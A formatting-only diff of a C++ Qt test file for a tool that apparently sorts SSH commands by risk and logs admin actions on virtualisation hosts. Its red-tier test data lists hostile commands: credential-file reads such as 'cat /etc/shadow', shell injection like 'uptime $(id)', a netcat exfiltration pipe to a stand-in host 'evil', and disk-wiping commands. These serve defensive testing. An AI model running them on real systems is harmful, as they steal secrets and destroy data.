@@ -234,8 +234,8 @@ void TestTools::confirmedPlacement_data()
     QTest::addRow("both false") << QJsonValue(false) << QJsonValue(false) << 403;
     QTest::addRow("body false, args true") << QJsonValue(false) << QJsonValue(true) << 400;
     QTest::addRow("body true, args false") << QJsonValue(true) << QJsonValue(false) << 400;
-    QTest::addRow("body null, args true") << QJsonValue(QJsonValue::Null) << QJsonValue(true)
-                                          << 200;
+    QTest::addRow("body null, args true")
+        << QJsonValue(QJsonValue::Null) << QJsonValue(true) << 200;
 }
 
 void TestTools::confirmedPlacement()
@@ -407,43 +407,42 @@ void TestTools::sshClassification_data()
     for (const auto &c : yellow)
         QTest::addRow("yellow: %s", c.command)
             << QString::fromUtf8(c.command) << Tier::Yellow << QString::fromUtf8(c.toRun);
-    for (const char *c : {
-             // The issue's examples: prefixes of read-only commands that are not read-only.
-             "cat /proc/../etc/shadow", "cat /proc/self/root/etc/shadow", "date -s @0",
-             "hostname evil", "ip addr flush dev eth0", "ip route del default",
-             "journalctl --vacuum-size=1", "sensors -s",
-             // paths: outside the list, `.`/`..`, symlink escapes, stdin, none
-             "cat /etc/shadow", "cat /proc/./cpuinfo", "cat /proc/1/environ",
-             "cat /proc/self/environ", "cat /proc/cpuinfo /etc/shadow",
-             "cat /proc/self/root/proc/cpuinfo", "cat -", "cat", "cat -v /proc/cpuinfo",
-             "df /var/../root", "lsblk /dev/../etc/shadow",
-             // options that write, loop forever or read arbitrary files
-             "date --set=@0", "date 010100002030", "date -f /etc/shadow", "date -r /etc/shadow",
-             "hostname -F /tmp/x", "hostname -b evil", "hostname --file=x",
-             "ip link set eth0 down", "ip addr add 10.0.0.1/24 dev eth0", "ip -b /tmp/cmds",
-             "ip -batch x", "ip -n other addr", "ip netns exec x sh", "ip a s",
-             "ip route flush cache", "ip neigh flush all", "ip addr show dev eth0 extra",
-             "journalctl --vacuum-time=1s", "journalctl --rotate", "journalctl --flush",
-             "journalctl -f", "journalctl --follow", "journalctl --cursor-file=/etc/x",
-             "journalctl -D /", "journalctl --file=/etc/shadow", "journalctl --vac=1",
-             "journalctl --setup-keys", "journalctl -u", "journalctl -n abc",
-             "sensors --set", "sensors -c /tmp/evil.conf", "sensors -sj",
-             "systemctl restart pveproxy", "systemctl stop pve-cluster",
-             "systemctl --no-pager stop x", "systemctl -H evil status x", "systemctl",
-             "systemctl status -n", "free -s 1", "free -c 3", "dmesg -c", "dmesg -C",
-             "dmesg --clear", "dmesg -n 1", "dmesg -w", "top", "top -b", "top -bn0",
-             "top -bn1 -d 0.1", "zpool status 1", "zpool status rpool 5", "zpool scrub rpool",
-             "zpool iostat 1", "zfs set compression=on rpool", "qm start 100",
-             "pct exec 100 -- sh", "qm status abc", "qm status 100 200", "pvesm free x",
-             "pvesm status --storage 'a b'", "uptime --", "ps -p 1 -o pid=",
-             // shell syntax: chaining, substitution, redirection, globs, quotes left open
-             "uptime; id", "uptime && id", "uptime | sh", "uptime `id`", "uptime $(id)",
-             "uptime \\", "uptime #", "uptime &", "uptime ~", "cat /proc/cpuinfo*",
-             "uname -a $HOME", "date '+%s", "date \"$(id)\"", "date \"`id`\"", "df -h > /tmp/x",
-             "cat /proc/cpuinfo | nc evil 1", "uptime\u00a0-p", "uptime \u037e id",
-             // not on the table at all
-             "uptimex", "UPTIME", "/usr/bin/uptime", "ls /root", "apt update", "echo hi",
-             "rm -rf /tmp/x", "systemctl status pveproxy; id", "echo $(id)"})
+    for (const char *c :
+        {// The issue's examples: prefixes of read-only commands that are not read-only.
+            "cat /proc/../etc/shadow", "cat /proc/self/root/etc/shadow", "date -s @0",
+            "hostname evil", "ip addr flush dev eth0", "ip route del default",
+            "journalctl --vacuum-size=1", "sensors -s",
+            // paths: outside the list, `.`/`..`, symlink escapes, stdin, none
+            "cat /etc/shadow", "cat /proc/./cpuinfo", "cat /proc/1/environ",
+            "cat /proc/self/environ", "cat /proc/cpuinfo /etc/shadow",
+            "cat /proc/self/root/proc/cpuinfo", "cat -", "cat", "cat -v /proc/cpuinfo",
+            "df /var/../root", "lsblk /dev/../etc/shadow",
+            // options that write, loop forever or read arbitrary files
+            "date --set=@0", "date 010100002030", "date -f /etc/shadow", "date -r /etc/shadow",
+            "hostname -F /tmp/x", "hostname -b evil", "hostname --file=x", "ip link set eth0 down",
+            "ip addr add 10.0.0.1/24 dev eth0", "ip -b /tmp/cmds", "ip -batch x",
+            "ip -n other addr", "ip netns exec x sh", "ip a s", "ip route flush cache",
+            "ip neigh flush all", "ip addr show dev eth0 extra", "journalctl --vacuum-time=1s",
+            "journalctl --rotate", "journalctl --flush", "journalctl -f", "journalctl --follow",
+            "journalctl --cursor-file=/etc/x", "journalctl -D /", "journalctl --file=/etc/shadow",
+            "journalctl --vac=1", "journalctl --setup-keys", "journalctl -u", "journalctl -n abc",
+            "sensors --set", "sensors -c /tmp/evil.conf", "sensors -sj",
+            "systemctl restart pveproxy", "systemctl stop pve-cluster",
+            "systemctl --no-pager stop x", "systemctl -H evil status x", "systemctl",
+            "systemctl status -n", "free -s 1", "free -c 3", "dmesg -c", "dmesg -C",
+            "dmesg --clear", "dmesg -n 1", "dmesg -w", "top", "top -b", "top -bn0",
+            "top -bn1 -d 0.1", "zpool status 1", "zpool status rpool 5", "zpool scrub rpool",
+            "zpool iostat 1", "zfs set compression=on rpool", "qm start 100", "pct exec 100 -- sh",
+            "qm status abc", "qm status 100 200", "pvesm free x", "pvesm status --storage 'a b'",
+            "uptime --", "ps -p 1 -o pid=",
+            // shell syntax: chaining, substitution, redirection, globs, quotes left open
+            "uptime; id", "uptime && id", "uptime | sh", "uptime `id`", "uptime $(id)", "uptime \\",
+            "uptime #", "uptime &", "uptime ~", "cat /proc/cpuinfo*", "uname -a $HOME", "date '+%s",
+            "date \"$(id)\"", "date \"`id`\"", "df -h > /tmp/x", "cat /proc/cpuinfo | nc evil 1",
+            "uptime\u00a0-p", "uptime \u037e id",
+            // not on the table at all
+            "uptimex", "UPTIME", "/usr/bin/uptime", "ls /root", "apt update", "echo hi",
+            "rm -rf /tmp/x", "systemctl status pveproxy; id", "echo $(id)"})
         QTest::addRow("red: %s", c) << QString::fromUtf8(c) << Tier::Red << QString();
     for (const char *c : {"rm -rf /", "rm -fr /", "rm -rf /*", "sudo rm -rf --no-preserve-root /",
              "mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/vdb", "dd if=/dev/zero of=/dev/sda",
@@ -571,8 +570,8 @@ void TestTools::auditMarksInterruptedCalls()
         QStringLiteral("stop_vm"), QStringLiteral("RED"), {}, true, QStringLiteral("started"));
     m_audit->complete(done, QStringLiteral("succeeded"), {}, 5);
     const QJsonObject lost = m_audit->begin(QStringLiteral("admin"), QStringLiteral("mcp"),
-        QStringLiteral("restart_vm"), QStringLiteral("RED"), {{QStringLiteral("vmid"), 101}},
-        true, QStringLiteral("started"));
+        QStringLiteral("restart_vm"), QStringLiteral("RED"), {{QStringLiteral("vmid"), 101}}, true,
+        QStringLiteral("started"));
     m_executor.reset();
     m_audit.reset(); // no complete(): what kill -9 leaves behind
 
@@ -612,8 +611,9 @@ void TestTools::auditOneEntryPerIdFarApart()
     tools::AuditLog log(m_dir->filePath(QStringLiteral("far/audit.jsonl")), 150);
     QString error;
     QVERIFY2(log.open(&error), qPrintable(error));
-    const QJsonObject longRunning = log.record({{QStringLiteral("tool"), QStringLiteral("terminal")},
-        {QStringLiteral("status"), QStringLiteral("opened")}});
+    const QJsonObject longRunning =
+        log.record({{QStringLiteral("tool"), QStringLiteral("terminal")},
+            {QStringLiteral("status"), QStringLiteral("opened")}});
     for (int i = 0; i < 100; ++i)
         log.begin(QStringLiteral("admin"), QStringLiteral("api"), QStringLiteral("get_vms"),
             QStringLiteral("GREEN"), {}, false, QStringLiteral("succeeded"));
